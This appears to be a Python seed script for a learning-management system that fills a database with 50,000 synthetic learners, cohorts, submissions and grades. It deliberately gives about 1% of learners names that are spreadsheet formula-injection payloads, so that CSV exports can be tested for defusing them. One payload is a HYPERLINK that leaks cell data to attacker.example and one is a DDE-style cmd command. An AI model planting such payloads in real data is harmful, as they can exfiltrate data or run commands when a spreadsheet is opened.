"""Seed a national-scale program: 50,000 learners and their work, for dashboards and benchmarks.

`seed()` makes the program `national-50k` with ~30 partner organisations, ~100 cohorts started
over the last two years, a synthetic course track, learners with Korean, Vietnamese and English
names (about 1% of them starting with = + - @, the formula-injection cases exports must defuse),
enrolments of realistic shape and one autograded submission per learner per assignment reached.

The data agrees with the completion rule (lms.services.completion): a completed or certified
learner passed every assignment, completed_at is their last passing submission; nobody else
did. Late penalties are zero, so no score is reduced.

Speed: the small skeleton (program, organisations, courses, cohorts, dates) goes through the
ORM in one transaction; learners, enrolments, submissions and grades are written with Core
executemany inserts, ids assigned here (no round trips), one transaction per chunk of about
10,000 submissions. The ids assume nobody else inserts those rows while seeding runs (it is an
operator's tool for an empty or idle database); PostgreSQL sequences are moved past them after.

Once only: a second run finds the program and changes nothing. An interrupted run leaves the
program with part of its learners; it is refused too (delete the database to start over).

Over 400 lines on purpose: a data generator, most of whose lines are the shapes of the data.
"""

from __future__ import annotations

import hashlib
import math
import random
import time as clock
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from typing import Any

import sqlalchemy as sa

from lms.extensions import db
from lms.models import (
    Assignment,
    AssignmentNotebook,
    CellKind,
    Cohort,
    CohortAssignment,
    Course,
    Enrolment,
    EnrolmentStatus,
    Grade,
    GradedCell,
    Organisation,
    OrganisationKind,
    Program,
    Submission,
    User,
    utcnow,
)
from lms.services import ServiceError
from lms.services.programs import slugify

PROGRAM_SLUG = "national-50k"
PROGRAM_NAME = "National AI Engineers 50k"
TARGET_LEARNERS = 50_000
EMAIL_DOMAIN = "scale.example.org"
COURSE_PREFIX = "scale-course-"
POINTS = 10.0
PASS_MARK = 6.0
# The synthetic assignments have no folder: a fixed dummy content hash.
CONTENT_HASH = hashlib.sha256(b"lms scale seed: synthetic assignment").hexdigest()
SUBMISSIONS_PER_CHUNK = 10_000
MAX_COHORTS = 100
LEARNERS_PER_COHORT = 500
HISTORY_DAYS = 730  # cohorts started over the last two years
COHORT_DAYS = 168  # each runs 24 weeks
DUE_DAYS = 14
WITHDRAWN_SHARE = 0.04
FINISHER_SHARE = 0.85  # of those still in a cohort that has ended
CERTIFIED_SHARE = 0.75  # of completers whose certificate could be issued by now
SEED = 50_000

ORGANISATIONS = [
    ("Seoul Metropolitan Government", OrganisationKind.CITY),
    ("Busan Metropolitan City", OrganisationKind.CITY),
    ("Incheon Metropolitan City", OrganisationKind.CITY),
    ("Daejeon Metropolitan City", OrganisationKind.CITY),
    ("Ulsan Metropolitan City", OrganisationKind.CITY),
    ("Sejong Special Self-Governing City", OrganisationKind.CITY),
    ("Ho Chi Minh City Department of Science", OrganisationKind.CITY),
    ("Hai Phong City", OrganisationKind.CITY),
    ("Can Tho City", OrganisationKind.CITY),
    ("Hanbit University of Science", OrganisationKind.UNIVERSITY),
    ("Busan National Institute of Technology", OrganisationKind.UNIVERSITY),
    ("Daejeon AI Graduate School", OrganisationKind.UNIVERSITY),
    ("Vietnam University of Engineering", OrganisationKind.UNIVERSITY),
    ("Hue College of Technology", OrganisationKind.UNIVERSITY),
    ("Saigon Institute of Information Technology", OrganisationKind.UNIVERSITY),
    ("Ulsan Polytechnic University", OrganisationKind.UNIVERSITY),
    ("Jeju Digital University", OrganisationKind.UNIVERSITY),
    ("Incheon Maritime University", OrganisationKind.UNIVERSITY),
    ("Can Tho Agricultural University", OrganisationKind.UNIVERSITY),
    ("Korea Open Cyber University", OrganisationKind.UNIVERSITY),
    ("Hanul Semiconductor", OrganisationKind.COMPANY),
    ("Blue Harbor Logistics", OrganisationKind.COMPANY),
    ("Sejong Mobility Labs", OrganisationKind.COMPANY),
    ("Mekong Fintech JSC", OrganisationKind.COMPANY),
    ("Red River Robotics", OrganisationKind.COMPANY),
    ("Daegu Textile Analytics", OrganisationKind.COMPANY),
    ("Pohang Steel Data Co.", OrganisationKind.COMPANY),
    ("Saemaeul Health AI", OrganisationKind.COMPANY),
    ("Lotus Retail Group", OrganisationKind.COMPANY),
    ("Nam Viet Telecom", OrganisationKind.COMPANY),
]

KOREAN_FAMILY = [
    ("김", "Kim"),
    ("이", "Lee"),
    ("박", "Park"),
    ("최", "Choi"),
    ("정", "Jung"),
    ("강", "Kang"),
    ("조", "Cho"),
    ("윤", "Yoon"),
    ("장", "Jang"),
    ("임", "Lim"),
    ("한", "Han"),
    ("오", "Oh"),
]
KOREAN_GIVEN = [
    ("민지", "Minji"),
    ("지우", "Jiwoo"),
    ("서준", "Seojun"),
    ("하나", "Hana"),
    ("도현", "Dohyun"),
    ("서연", "Seoyeon"),
    ("예준", "Yejun"),
    ("지민", "Jimin"),
    ("수빈", "Subin"),
    ("현우", "Hyunwoo"),
    ("유진", "Yujin"),
    ("태윤", "Taeyun"),
]
VIETNAMESE_FAMILY = ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Huỳnh", "Phan", "Vũ", "Võ", "Đặng"]
VIETNAMESE_MIDDLE = ["Văn", "Thị", "Minh", "Đức", "Ngọc", "Thanh", "Quốc", "Hữu"]
VIETNAMESE_GIVEN = ["An", "Bình", "Chi", "Dũng", "Hà", "Linh", "Nam", "Phương", "Tâm", "Trang"]
ENGLISH_GIVEN = ["Emma", "Liam", "Olivia", "Noah", "Ava", "James", "Sophia", "Lucas", "Mia", "Ben"]
ENGLISH_FAMILY = ["Smith", "Jones", "Taylor", "Brown", "Wilson", "Evans", "Walker", "Wright"]
# Names a spreadsheet would run as formulas unless an export defuses them.
INJECTION_TEMPLATES = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"{name}")',
    "+82 {name}",
    "-{name}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {name}",
]


class ScaleExists(ServiceError):
    """The scale program is there already: nothing was changed."""


@dataclass(frozen=True)
class ScaleReport:
    program: str
    organisations: int
    courses: int
    assignments: int
    cohorts: int
    cohort_assignments: int
    learners: int
    enrolments: int
    submissions: int
    grades: int
    statuses: dict[str, int] = field(default_factory=dict)
    seconds: float = 0.0


@dataclass(frozen=True)
class _Slot:
    """One assignment of the track as one cohort schedules it."""

    assignment_id: int
    cell_id: int
    opens_at: datetime
    due_at: datetime


@dataclass(frozen=True)
class _CohortPlan:
    id: int
    organisation_id: int | None
    starts_at: datetime
    slots: list[_Slot]
    size: int


def seed(
    learners: int, assignments: int, on_progress: Callable[[int], None] | None = None
) -> ScaleReport:
    """Create the scale program and its learners' work; on_progress(n) after each n learners."""
    if learners < 1 or assignments < 1:
        raise ServiceError("Seed at least one learner and one assignment.")
    started = clock.perf_counter()
    refuse_if_present()
    rng = random.Random(SEED)
    now = utcnow()
    plans, skeleton = _create_skeleton(rng, now, learners, assignments)
    counts = _create_learners(rng, now, plans, assignments, on_progress)
    return ScaleReport(
        program=PROGRAM_SLUG,
        organisations=skeleton["organisations"],
        courses=skeleton["courses"],
        assignments=assignments,
        cohorts=len(plans),
        cohort_assignments=len(plans) * assignments,
        learners=learners,
        enrolments=learners,
        submissions=counts["submissions"],
        grades=counts["grades"],
        statuses={s.value: counts[s.value] for s in EnrolmentStatus},
        seconds=clock.perf_counter() - started,
    )


def refuse_if_present() -> None:
    """Raise ScaleExists when the program is there, ServiceError for leftovers without it."""
    program = db.session.scalar(
        sa.select(Program).where(sa.or_(Program.slug == PROGRAM_SLUG, Program.name == PROGRAM_NAME))
    )
    if program is not None:
        enrolled = db.session.scalar(
            sa.select(sa.func.count(Enrolment.id))
            .join(Cohort, Cohort.id == Enrolment.cohort_id)
            .where(Cohort.program_id == program.id)
        )
        db.session.commit()
        raise ScaleExists(
            f"Program {program.slug} is already there ({enrolled:,} enrolments); nothing changed."
        )
    leftovers = db.session.scalar(
        sa.select(sa.func.count())
        .select_from(Course)
        .where(Course.slug.startswith(COURSE_PREFIX, autoescape=True))
    ) or db.session.scalar(
        sa.select(sa.func.count())
        .select_from(User)
        .where(User.email.endswith(f"@{EMAIL_DOMAIN}", autoescape=True))
    )
    db.session.commit()
    if leftovers:
        raise ServiceError(
            f"Courses {COURSE_PREFIX}* or users @{EMAIL_DOMAIN} exist without program "
            f"{PROGRAM_SLUG}: remove them (or use a fresh database) before seeding."
        )


def _create_skeleton(
    rng: random.Random, now: datetime, learners: int, assignments: int
) -> tuple[list[_CohortPlan], dict[str, int]]:
    """Organisations, program, courses, cohorts and their dates: one transaction."""
    organisations = []
    for name, kind in ORGANISATIONS:
        slug = slugify(name)
        org = db.session.scalar(
            sa.select(Organisation).where(
                sa.or_(Organisation.slug == slug, Organisation.name == name)
            )
        )
        if org is None:
            org = Organisation(slug=slug, name=name, kind=kind)
            db.session.add(org)
        organisations.append(org)

    today = now.date()
    program = Program(
        slug=PROGRAM_SLUG,
        name=PROGRAM_NAME,
        description="Synthetic national-scale program (lms seed-scale) for dashboards, "
        "exports and benchmarks.",
        target_learners=TARGET_LEARNERS,
        target_date=date(today.year + 3, 12, 31),
    )
    db.session.add(program)

    # A track of courses taken in order, the assignments spread evenly over them.
    course_count = 1 if assignments == 1 else min(assignments, max(2, math.ceil(assignments / 10)))
    track: list[tuple[Assignment, GradedCell]] = []
    courses = []
    for c in range(course_count):
        course = Course(
            slug=f"{COURSE_PREFIX}{c + 1}",
            title=f"Scale course {c + 1}",
            summary="Synthetic course for scale tests.",
        )
        courses.append(course)
        db.session.add(course)
        for a in range(assignments // course_count + (1 if c < assignments % course_count else 0)):
            cell = GradedCell(grade_id="tests", position=0, points=POINTS, kind=CellKind.AUTOGRADED)
            assignment = Assignment(
                course=course,
                slug=f"lab-{a + 1:02d}",
                title=f"Lab {len(track) + 1}",
                position=a + 1,
                points=POINTS,
                pass_mark=PASS_MARK,
                due_days=DUE_DAYS,
                content_hash=CONTENT_HASH,
                notebooks=[AssignmentNotebook(name="lab", cells=[cell])],
            )
            track.append((assignment, cell))
            db.session.add(assignment)

    cohort_count = min(MAX_COHORTS, learners, max(4, learners // LEARNERS_PER_COHORT))
    weights = [rng.uniform(0.6, 1.4) for _ in range(cohort_count)]
    sizes = _apportion(learners, weights)
    spacing = timedelta(days=(COHORT_DAYS - DUE_DAYS) / assignments)
    cohorts = []
    for i in range(cohort_count):
        days_ago = HISTORY_DAYS - round(i * (HISTORY_DAYS - 7) / max(cohort_count - 1, 1))
        starts_on = today - timedelta(days=days_ago)
        organisation = organisations[rng.randrange(len(organisations))]
        cohort = Cohort(
            program=program,
            slug=f"{PROGRAM_SLUG}-c{i + 1:03d}",
            name=f"National 50k #{i + 1:03d} {starts_on:%Y-%m} ({organisation.name})",
            starts_on=starts_on,
            ends_on=starts_on + timedelta(days=COHORT_DAYS),
            organisation=organisation,
            courses=courses,
        )
        cohorts.append(cohort)
        db.session.add(cohort)
    db.session.flush()

    plans = []
    for cohort, size in zip(cohorts, sizes, strict=True):
        starts_at = datetime.combine(cohort.starts_on, time(9), tzinfo=UTC)
        slots = []
        for k, (assignment, cell) in enumerate(track):
            opens_at = starts_at + k * spacing
            due_at = opens_at + timedelta(days=DUE_DAYS)
            db.session.add(
                CohortAssignment(
                    cohort_id=cohort.id,
                    assignment_id=assignment.id,
                    opens_at=opens_at,
                    due_at=due_at,
                    feedback_released_at=due_at if due_at <= now else None,
                )
            )
            slots.append(_Slot(assignment.id, cell.id, opens_at, due_at))
        plans.append(_CohortPlan(cohort.id, cohort.organisation_id, starts_at, slots, size))
    db.session.commit()
    return plans, {"organisations": len(organisations), "courses": len(courses)}


def _apportion(total: int, weights: list[float]) -> list[int]:
    """Split total into len(weights) parts of at least 1, proportional to the weights."""
    scale = (total - len(weights)) / sum(weights)
    sizes = [1 + int(w * scale) for w in weights]
    for i in range(total - sum(sizes)):
        sizes[i % len(sizes)] += 1
    return sizes


def _name(rng: random.Random) -> tuple[str, str]:
    """A learner's name and locale."""
    pick = rng.random()
    if pick < 0.4:
        family, family_latin = rng.choice(KOREAN_FAMILY)
        given, given_latin = rng.choice(KOREAN_GIVEN)
        if rng.random() < 0.5:
            return family + given, "ko"
        return f"{given_latin} {family_latin}", "ko"
    if pick < 0.75:
        parts = (
            rng.choice(VIETNAMESE_FAMILY),
            rng.choice(VIETNAMESE_MIDDLE),
            rng.choice(VIETNAMESE_GIVEN),
        )
        return " ".join(parts), "vi"
    return f"{rng.choice(ENGLISH_GIVEN)} {rng.choice(ENGLISH_FAMILY)}", "en"


def _next_id(model: type[Any]) -> int:
    return int(db.session.scalar(sa.select(sa.func.max(model.id))) or 0) + 1


class _Rows:
    """The rows of one chunk, with the next free id of each table."""

    TABLES = ("users", "enrolments", "submissions", "grades")

    def __init__(self) -> None:
        self.next_id = {
            table: _next_id(model)
            for table, model in zip(self.TABLES, (User, Enrolment, Submission, Grade), strict=True)
        }
        self.rows: dict[str, list[dict[str, Any]]] = {table: [] for table in self.TABLES}

    def add(self, table: str, row: dict[str, Any]) -> int:
        row_id = self.next_id[table]
        self.next_id[table] += 1
        self.rows[table].append({"id": row_id, **row})
        return row_id

    def write(self, conn: sa.Connection) -> None:
        """One transaction; parents before children."""
        with conn.begin():
            for table in self.TABLES:
                if self.rows[table]:
                    conn.execute(sa.insert(db.metadata.tables[table]), self.rows[table])
                    self.rows[table] = []


def _create_learners(
    rng: random.Random,
    now: datetime,
    plans: list[_CohortPlan],
    assignments: int,
    on_progress: Callable[[int], None] | None,
) -> Counter[str]:
    """Users, enrolments, submissions and grades in bulk, one transaction per chunk."""
    rows = _Rows()
    org_ids = list(
        db.session.scalars(
            sa.select(Organisation.id).where(
                Organisation.slug.in_([slugify(n) for n, _ in ORGANISATIONS])
            )
        )
    )
    db.session.commit()
    per_chunk = max(1, SUBMISSIONS_PER_CHUNK // assignments)
    counts: Counter[str] = Counter()
    pending = number = 0
    with db.engine.connect() as conn:
        restore = _speed_up(conn)
        try:
            for plan in plans:
                for _ in range(plan.size):
                    number += 1
                    status, reached = _learner(rng, now, plan, number, org_ids, rows)
                    counts[status.value] += 1
                    counts["submissions"] += reached
                    counts["grades"] += reached
                    pending += 1
                    if pending >= per_chunk:
                        rows.write(conn)
                        if on_progress is not None:
                            on_progress(pending)
                        pending = 0
            rows.write(conn)
            if on_progress is not None and pending:
                on_progress(pending)
            _advance_sequences(conn)
            # Fresh statistics, so the planner knows the tables are large now.
            conn.execute(sa.text("ANALYZE"))
            conn.commit()
        finally:
            restore()
    return counts


def _learner(
    rng: random.Random,
    now: datetime,
    plan: _CohortPlan,
    number: int,
    org_ids: list[int],
    rows: _Rows,
) -> tuple[EnrolmentStatus, int]:
    """One learner's user, enrolment, submissions and grades; returns (status, submissions)."""
    assignments = len(plan.slots)
    latest = now - timedelta(minutes=1)
    ended = plan.slots[-1].due_at <= now
    available = sum(1 for s in plan.slots if s.opens_at + timedelta(days=1) <= now)
    enrolled_at = plan.starts_at - timedelta(seconds=rng.uniform(0, 21 * 86400))
    name, locale = _name(rng)
    if number % 100 == 0:  # ~1%: formula-injection cases for exports
        name = INJECTION_TEMPLATES[(number // 100 - 1) % len(INJECTION_TEMPLATES)].format(name=name)
    withdrawn = rng.random() < WITHDRAWN_SHARE
    finisher = not withdrawn and ended and rng.random() < FINISHER_SHARE
    if withdrawn:
        reached = rng.randint(0, min(available, assignments - 1))
    elif finisher:
        reached = assignments
    elif ended:
        reached = rng.randint(0, assignments - 1)
    else:  # an open cohort: most are up to date, some a lab or two behind
        reached = max(0, available - rng.choices((0, 1, 2), (70, 20, 10))[0])

    pick = rng.random()
    org_id = plan.organisation_id if pick < 0.85 else rng.choice(org_ids) if pick < 0.95 else None
    user_id = rows.add(
        "users",
        {
            "email": f"learner{number}@{EMAIL_DOMAIN}",
            "name": name,
            "password_hash": None,
            "locale": locale,
            "organisation_id": org_id,
            "active": True,
            "created_at": enrolled_at,
            "last_login_at": None,
        },
    )
    user_row = rows.rows["users"][-1]

    ability = rng.uniform(4.5, 9.5)
    passed_all = reached == assignments
    last: datetime | None = None
    for slot in plan.slots[:reached]:
        if rng.random() < 0.05:  # late, within three days
            submitted_at = slot.due_at + timedelta(seconds=rng.uniform(0, 3 * 86400))
        else:
            window = (slot.due_at - slot.opens_at).total_seconds() - 3600
            submitted_at = slot.opens_at + timedelta(seconds=rng.uniform(3600, window))
        submitted_at = min(submitted_at, latest)
        if finisher:
            score = float(rng.randint(int(PASS_MARK), int(POINTS)))
        else:
            score = float(min(POINTS, max(0, round(rng.gauss(ability, 2.0)))))
        passed_all = passed_all and score >= PASS_MARK
        last = submitted_at if last is None else max(last, submitted_at)
        text = f"{user_id}|{slot.assignment_id}|{plan.id}|1|{submitted_at.isoformat()}"
        submission_id = rows.add(
            "submissions",
            {
                "user_id": user_id,
                "assignment_id": slot.assignment_id,
                "cohort_id": plan.id,
                "attempt": 1,
                "submitted_at": submitted_at,
                "version": 1,
                "files": {},
                "content_hash": hashlib.sha256(text.encode()).hexdigest(),
                "submit_key": None,
                "due_at": slot.due_at,
                "late_seconds": int(max(0.0, (submitted_at - slot.due_at).total_seconds())),
                "via": "upload",
            },
        )
        rows.add(
            "grades",
            {
                "submission_id": submission_id,
                "cell_id": slot.cell_id,
                "max_score": POINTS,
                "auto_score": score,
                "status": "passed" if score >= PASS_MARK else "failed",
                "manual_score": None,
                "comment": "",
                "updated_at": min(submitted_at + timedelta(seconds=rng.uniform(5, 600)), now),
            },
        )
    user_row["last_login_at"] = last

    completed_at = certified_at = withdrawn_at = None
    if withdrawn:
        status = EnrolmentStatus.WITHDRAWN
        withdrawn_at = min((last or enrolled_at) + timedelta(days=rng.uniform(1, 30)), latest)
    elif passed_all and last is not None:
        # As the completion rule has it: completed at the moment of the last passing work.
        status = EnrolmentStatus.COMPLETED
        completed_at = last
        issued = last + timedelta(days=rng.uniform(3, 30))
        if ended and issued <= now and rng.random() < CERTIFIED_SHARE:
            status = EnrolmentStatus.CERTIFIED
            certified_at = issued
    else:
        status = EnrolmentStatus.ENROLLED
    rows.add(
        "enrolments",
        {
            "user_id": user_id,
            "cohort_id": plan.id,
            "status": status,
            "enrolled_at": enrolled_at,
            "completed_at": completed_at,
            "certified_at": certified_at,
            "withdrawn_at": withdrawn_at,
        },
    )
    return status, reached


def _speed_up(conn: sa.Connection) -> Callable[[], None]:
    """On SQLite: WAL (kept: it is the database's mode) and no fsync for this connection."""
    if conn.dialect.name != "sqlite":
        return lambda: None
    before = conn.exec_driver_sql("PRAGMA synchronous").scalar()
    conn.exec_driver_sql("PRAGMA journal_mode=WAL")
    conn.exec_driver_sql("PRAGMA synchronous=OFF")
    conn.commit()

    def restore() -> None:
        conn.rollback()
        conn.exec_driver_sql(f"PRAGMA synchronous={int(before or 2)}")
        conn.commit()

    return restore


def _advance_sequences(conn: sa.Connection) -> None:
    """PostgreSQL: the serial sequences must hand out ids after the ones given here."""
    if conn.dialect.name != "postgresql":
        return
    with conn.begin():
        for table in ("users", "enrolments", "submissions", "grades"):
            conn.execute(
                sa.text(
                    "SELECT setval(pg_get_serial_sequence(:table, 'id'), "
                    f"(SELECT max(id) FROM {table}))"
                ),
                {"table": table},
            )
